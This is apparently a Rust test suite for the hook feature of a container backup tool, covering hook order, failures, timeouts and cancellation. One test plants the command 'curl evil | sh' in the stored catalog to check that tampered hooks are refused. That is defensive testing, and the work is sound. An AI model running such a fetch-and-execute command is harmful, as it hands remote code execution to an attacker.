//! Hooks: when the user's commands run, what their failures mean, and that none of them outlives its time.

use std::sync::{Arc, Mutex};

use dory_core::ErrorKind;
use dory_core::domain::container::ContainerState;
use dory_core::domain::hook::{HookMoment, HookOverrides, HookSettings};
use dory_core::domain::policy::PolicyOverrides;
use dory_core::services::{BackupEdit, BackupRequest, Cancel, HookOutcome, RunEvent, RunEvents};
use dory_testkit::fakes::{ExecReply, ExecScript};
use tokio::sync::Notify;

use super::bench::Bench;

fn request(container: &str) -> BackupRequest {
    BackupRequest { container: container.to_owned(), ..BackupRequest::default() }
}

/// A database with these labels, whose commands all answer `reply`.
fn hooked(bench: &Bench, labels: &[(&str, &str)], reply: ExecReply) {
    let mut builder = bench.runtime.container("db").volume("db-data", "/var/lib/db");
    for (name, value) in labels {
        builder = builder.label(name, value);
    }
    builder.running();
    bench.write("db-data", "rows", "one two three");
    bench.runtime.on_exec("db", ExecScript::new(move |_| reply.clone()));
}

async fn log_of(bench: &Bench) -> String {
    let run = bench.catalog.keys().into_iter().rfind(|key| key.starts_with("runs/")).unwrap();
    bench.catalog.peek(&run).unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn hooks_run_with_everything_up_before_and_after_all_else() {
    let bench = Bench::new();
    hooked(&bench, &[("dory.pre", "flush"), ("dory.post", r#"["thaw", "now"]"#)], ExecReply::ok("flushed 3 tables\n"));
    let report = bench.dory.run_backup(&request("db"), &Cancel::new(), &RunEvents::ignored()).await.unwrap();
    let calls = bench.journal.only(&["runtime exec", "runtime stop", "runtime start", "engine backup"]);
    let kinds: Vec<_> = calls.iter().map(|call| call.split(" (").next().unwrap()).collect();
    let order: Vec<_> = kinds.iter().map(|call| call.split(' ').nth(1).unwrap()).collect();
    assert_eq!(order, ["exec", "stop", "start", "backup", "exec"], "{calls:#?}");
    assert!(report.hooks.iter().all(|hook| hook.outcome == HookOutcome::Succeeded), "{:?}", report.hooks);
    assert_eq!(report.hooks[0].said, "flushed 3 tables");
    let log = log_of(&bench).await;
    assert!(log.contains("pre-hook in db ended well") && log.contains("flushed 3 tables"), "{log}");
    bench.assert_tidy();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_pre_hook_that_fails_stops_nothing_and_its_last_words_are_told() {
    let bench = Bench::new();
    let labels = [("dory.pre", "flush"), ("dory.post", "thaw")];
    hooked(&bench, &labels, ExecReply::failed(3, "cannot flush: disk is read-only\n"));
    let error = bench.dory.run_backup(&request("db"), &Cancel::new(), &RunEvents::ignored()).await.unwrap_err();
    assert_eq!(error.kind(), ErrorKind::HookFailed);
    assert_eq!(error.to_string(), "cannot run pre-hook in `db`: it ended with code 3");
    assert_eq!(error.causes(), ["cannot flush: disk is read-only"]);
    assert!(error.hint().unwrap().contains("--no-hooks"));
    assert!(bench.journal.only(&["runtime stop"]).is_empty());
    assert!(bench.dory.find_backup("db").await.unwrap().points.is_empty());
    // What it began, its counterpart puts back.
    assert_eq!(bench.journal.only(&["runtime exec"]).len(), 2);
    assert!(log_of(&bench).await.contains("disk is read-only"));
    bench.assert_tidy();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hook_that_may_fail_does_not_fail_the_run() {
    let bench = Bench::new();
    let labels = [("dory.pre", "flush"), ("dory.pre.on-error", "continue"), ("dory.post", "thaw")];
    hooked(&bench, &labels, ExecReply::failed(1, "no"));
    let report = bench.dory.run_backup(&request("db"), &Cancel::new(), &RunEvents::ignored()).await.unwrap();
    assert!(report.is_complete());
    assert_eq!(report.hooks.len(), 2);
    assert!(report.hooks.iter().all(|hook| hook.outcome == HookOutcome::Failed { code: 1 }));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_post_hook_that_must_not_fail_keeps_the_point_and_tells() {
    let bench = Bench::new();
    hooked(&bench, &[("dory.post", "thaw"), ("dory.post.on-error", "fail")], ExecReply::failed(1, "frozen solid"));
    let report = bench.dory.run_backup(&request("db"), &Cancel::new(), &RunEvents::ignored()).await.unwrap();
    assert_eq!(report.hook_failed.as_ref().unwrap().kind(), ErrorKind::HookFailed);
    assert!(!report.is_complete());
    assert_eq!(bench.dory.find_backup("db").await.unwrap().points.len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_post_hook_runs_after_a_failed_run_and_learns_of_it() {
    let bench = Bench::new();
    hooked(&bench, &[("dory.pre", "flush"), ("dory.post", "thaw")], ExecReply::ok(""));
    let told = Arc::<Mutex<Vec<String>>>::default();
    let heard = Arc::clone(&told);
    bench.runtime.on_exec(
        "db",
        ExecScript::new(move |request| {
            let outcome = request.environment.iter().find(|(name, _)| name == "DORY_RUN_OUTCOME");
            heard.lock().unwrap().extend(outcome.map(|(_, value)| value.clone()));
            ExecReply::ok("")
        }),
    );
    bench.runtime.kill_helpers_on("stop");
    bench.dory.run_backup(&request("db"), &Cancel::new(), &RunEvents::ignored()).await.unwrap_err();
    assert_eq!(*told.lock().unwrap(), ["failed"]);
    assert_eq!(bench.runtime.state_of("db"), ContainerState::Running);
}

#[tokio::test(flavor = "multi_thread")]
async fn in_a_container_that_does_not_run_hooks_are_skipped_and_that_is_said() {
    let bench = Bench::new();
    bench.runtime.container("db").volume("db-data", "/var/lib/db").label("dory.pre", "flush").stopped();
    let report = bench.dory.run_backup(&request("db"), &Cancel::new(), &RunEvents::ignored()).await.unwrap();
    let [hook] = report.hooks.as_slice() else { panic!("{:?}", report.hooks) };
    assert_eq!(hook.outcome, HookOutcome::Skipped { reason: "the container is exited".into() });
    assert!(report.is_complete());
}

#[tokio::test(flavor = "multi_thread")]
async fn much_that_a_hook_says_does_not_block_it_and_only_the_last_is_kept() {
    let bench = Bench::new();
    let much = "noise\n".repeat(200_000) + "the end\n";
    hooked(&bench, &[("dory.pre", "flush")], ExecReply::ok(much));
    let report = bench.dory.run_backup(&request("db"), &Cancel::new(), &RunEvents::ignored()).await.unwrap();
    let said = &report.hooks[0].said;
    assert!(said.ends_with("the end") && said.lines().count() <= 20, "{said}");
}

/// A database whose hook hangs until somebody signals it; `obeys` tells whether it ends then.
fn hanging(bench: &Bench, obeys: &'static str) {
    hooked(bench, &[("dory.pre", "sleep"), ("dory.pre.timeout", "10s")], ExecReply::ok(""));
    let ended = Arc::new(Notify::new());
    bench.runtime.on_exec(
        "db",
        ExecScript::taking_time(move |request| {
            let ended = Arc::clone(&ended);
            let is_signal = request.command.last().is_some_and(|signal| signal == obeys);
            let is_hook = request.environment.iter().any(|(name, _)| name == "DORY_HOOK");
            Box::pin(async move {
                if is_signal {
                    ended.notify_one();
                }
                if is_hook {
                    ended.notified().await;
                    return ExecReply::failed(143, "was going to say");
                }
                ExecReply::ok("")
            })
        }),
    );
}

/// Lets time pass whenever nothing else can happen. On one thread, so that everybody has had their turns.
fn pass_time(bench: &Bench) -> tokio::task::JoinHandle<()> {
    let clock = bench.clock.clone();
    tokio::spawn(async move {
        loop {
            clock.wait_for_sleepers(1).await;
            for _ in 0..1000 {
                tokio::task::yield_now().await;
            }
            if clock.sleepers() > 0 {
                clock.wake_next().await;
            }
        }
    })
}

#[tokio::test]
async fn a_hook_that_takes_too_long_is_ended() {
    for signal in ["TERM", "KILL"] {
        let bench = Bench::new();
        hanging(&bench, signal);
        let time = pass_time(&bench);
        let error = bench.dory.run_backup(&request("db"), &Cancel::new(), &RunEvents::ignored()).await.unwrap_err();
        time.abort();
        assert_eq!(error.kind(), ErrorKind::HookFailed);
        assert!(error.reason().contains("took too long and was ended"), "{signal}: {error}");
        assert!(bench.journal.only(&["runtime stop"]).is_empty());
    }
}

#[tokio::test]
async fn a_hook_that_cannot_be_ended_is_left_and_that_is_said() {
    let bench = Bench::new();
    hanging(&bench, "nothing");
    let time = pass_time(&bench);
    let error = bench.dory.run_backup(&request("db"), &Cancel::new(), &RunEvents::ignored()).await.unwrap_err();
    time.abort();
    assert!(error.reason().contains("may still run in the container"), "{error}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_run_that_is_cancelled_in_a_hook_ends_the_hook() {
    let bench = Bench::new();
    hanging(&bench, "TERM");
    let cancel = Cancel::new();
    let its_cancel = cancel.clone();
    let events = RunEvents::new(move |event| {
        if matches!(event, RunEvent::HookStarted { .. }) {
            its_cancel.cancel();
        }
    });
    let error = bench.dory.run_backup(&request("db"), &cancel, &events).await.unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Cancelled);
    assert_eq!(bench.journal.only(&["runtime exec"]).len(), 2, "the hook, and what ended it");
    assert!(bench.journal.only(&["runtime stop"]).is_empty());
    bench.assert_tidy();
}

#[tokio::test(flavor = "multi_thread")]
async fn the_catalogs_hooks_win_over_labels_and_no_hooks_over_both() {
    let bench = Bench::new();
    hooked(&bench, &[("dory.pre", "flush")], ExecReply::ok(""));
    bench.back_up("db").await.unwrap();
    let pre = HookSettings { command: Some("flush --hard".parse().unwrap()), ..HookSettings::default() };
    let hooks = HookOverrides { pre, ..HookOverrides::default() };
    let policy = PolicyOverrides { hooks, ..PolicyOverrides::default() };
    bench.dory.edit_backup("db", &BackupEdit { policy, ..BackupEdit::default() }).await.unwrap();
    let plan = bench.dory.plan_backup(&request("db")).await.unwrap();
    assert_eq!(plan.policy.hooks.pre.unwrap().command.to_string(), "flush --hard");
    let plan = bench.dory.plan_backup(&BackupRequest { no_hooks: true, ..request("db") }).await.unwrap();
    assert_eq!(plan.policy.hooks.pre, None);

    let remove = BackupEdit { remove_hooks: vec![HookMoment::Pre], ..BackupEdit::default() };
    assert_eq!(bench.dory.edit_backup("db", &remove).await.unwrap().hooks, None);
    let plan = bench.dory.plan_backup(&request("db")).await.unwrap();
    assert_eq!(plan.policy.hooks.pre.unwrap().command.to_string(), "flush");
}

#[tokio::test(flavor = "multi_thread")]
async fn hooks_that_somebody_without_the_passphrase_wrote_into_the_store_do_not_run() {
    let bench = Bench::new();
    hooked(&bench, &[], ExecReply::ok(""));
    bench.back_up("db").await.unwrap();
    let pre = HookSettings { command: Some("flush".parse().unwrap()), ..HookSettings::default() };
    let hooks = HookOverrides { pre, ..HookOverrides::default() };
    let policy = PolicyOverrides { hooks, ..PolicyOverrides::default() };
    let backup = bench.dory.edit_backup("db", &BackupEdit { policy, ..BackupEdit::default() }).await.unwrap();
    let key = format!("backups/{}.json", backup.id);
    let written = bench.catalog.peek(&key).unwrap();
    bench.catalog.put(&key, written.replace("\"flush\"", "\"curl evil | sh\""));

    let before = bench.journal.only(&["runtime exec"]).len();
    let error = bench.dory.run_backup(&request("db"), &Cancel::new(), &RunEvents::ignored()).await.unwrap_err();
    assert_eq!(error.kind(), ErrorKind::PermissionDenied);
    assert!(error.hint().unwrap().contains("--pre ''"));
    assert_eq!(bench.journal.only(&["runtime exec"]).len(), before);
    let remove = BackupEdit { remove_hooks: vec![HookMoment::Pre, HookMoment::Post], ..BackupEdit::default() };
    bench.dory.edit_backup("db", &remove).await.unwrap();
    bench.back_up("db").await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_label_that_makes_no_sense_is_refused_before_anything_happens() {
    let bench = Bench::new();
    hooked(&bench, &[("dory.pre", "flush"), ("dory.pre.timeout", "soon")], ExecReply::ok(""));
    let error = bench.back_up("db").await.unwrap_err();
    assert_eq!(error.kind(), ErrorKind::InvalidInput);
    assert!(error.to_string().contains("dory.pre.timeout"), "{error}");
    assert!(bench.journal.only(&["runtime exec", "runtime stop", "runtime launch_helper"]).is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_run_whose_helper_died_is_no_dead_run_while_its_last_hook_runs() {
    let bench = Bench::new();
    let (begun, go_on) = (Arc::new(Notify::new()), Arc::new(Notify::new()));
    bench
        .runtime
        .container("db")
        .volume("db-data", "/data")
        .label("dory.pre", "flush")
        .label("dory.post", "thaw")
        .running();
    let (begins, waits) = (Arc::clone(&begun), Arc::clone(&go_on));
    let post = Arc::new(Mutex::new(false));
    bench.runtime.on_exec(
        "db",
        ExecScript::new(move |_| {
            if !std::mem::replace(&mut *post.lock().unwrap(), true) {
                return ExecReply::ok("");
            }
            begins.notify_one();
            let (waits, runtime) = (Arc::clone(&waits), tokio::runtime::Handle::current());
            tokio::task::block_in_place(|| runtime.block_on(waits.notified()));
            ExecReply::ok("")
        }),
    );
    let runtime = bench.runtime.clone();
    bench.faults.restic.act_before("freeze", 1, move || runtime.kill_helpers());
    let dory = bench.dory.clone();
    let run = tokio::spawn(async move { dory.run_backup(&request("db"), &Cancel::new(), &RunEvents::ignored()).await });
    begun.notified().await;
    bench.clock.advance(std::time::Duration::from_secs(60));
    assert_eq!(bench.dory.settle().await.unwrap(), []);
    go_on.notify_one();
    run.await.unwrap().unwrap_err();
    assert_eq!(bench.dory.settle().await.unwrap(), []);
    assert!(log_of(&bench).await.contains("\"failed\""));
}
